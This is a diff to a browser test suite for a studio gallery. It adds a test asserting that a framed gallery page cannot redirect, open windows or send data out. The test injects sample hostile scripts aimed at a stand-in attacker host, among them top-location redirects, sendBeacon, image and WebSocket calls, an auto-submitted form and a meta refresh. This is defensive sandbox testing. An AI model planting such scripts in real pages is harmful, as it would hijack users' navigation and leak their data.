@@ -6,7 +6,7 @@ import type { JsonObject, Payload } from '../../../../src/services/studio/model/
 import { BROWSER_START_MS_MAX, openBrowser } from '../../../browser/open-browser.ts';
 import { type Tree, toPayload } from '../frame/open-preview.ts';
 import { type Json, StudioServer } from '../studio-server.ts';
-import { ATTACKS, listTraces, watch } from './attacks.ts';
+import { ATTACKER, ATTACKS, listTraces, watch } from './attacks.ts';
 
 const TEXTS = Object.values(ATTACKS);
 const ALL = TEXTS.join(' ');
@@ -90,6 +90,32 @@ describe('the pages of the studio', () => {
     }
     assert.deepEqual(seen, []);
     for (const id of [composed, given]) assert.equal((await server.get(`/gallery/${id}/thumbnail.png`)).status, 200);
+    await context.close();
+  });
+
+  it('keep a frame from leaving, from leading them away and from opening windows, also if a script ran in it', async () => {
+    const id = await publish('leaving', LOUD, 'turn-leaving');
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    const seen = await watch(page, server.url);
+    const address = `${server.url}/gallery/${id}`;
+    for (const script of [
+      `location.href = '${ATTACKER}/self'`,
+      `top.location.href = '${ATTACKER}/top'`,
+      `window.open('${ATTACKER}/window')`,
+      `new Image().src = '${ATTACKER}/image'`,
+      `navigator.sendBeacon('${ATTACKER}/beacon')`,
+      `new WebSocket('wss://attacker.example/')`,
+      `document.body.innerHTML = '<form action="${ATTACKER}/form"></form>'; document.forms[0].submit()`,
+      `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh">'`,
+    ]) {
+      await page.goto(address);
+      const frame = page.frames()[1] ?? assert.fail('the page has a frame');
+      await frame.locator('[data-node]').first().waitFor();
+      await frame.evaluate(`{ ${script} }`).catch(() => {});
+      await page.waitForTimeout(100);
+      assert.deepEqual([page.url(), seen], [address, []], script);
+    }
     await context.close();
   });
 
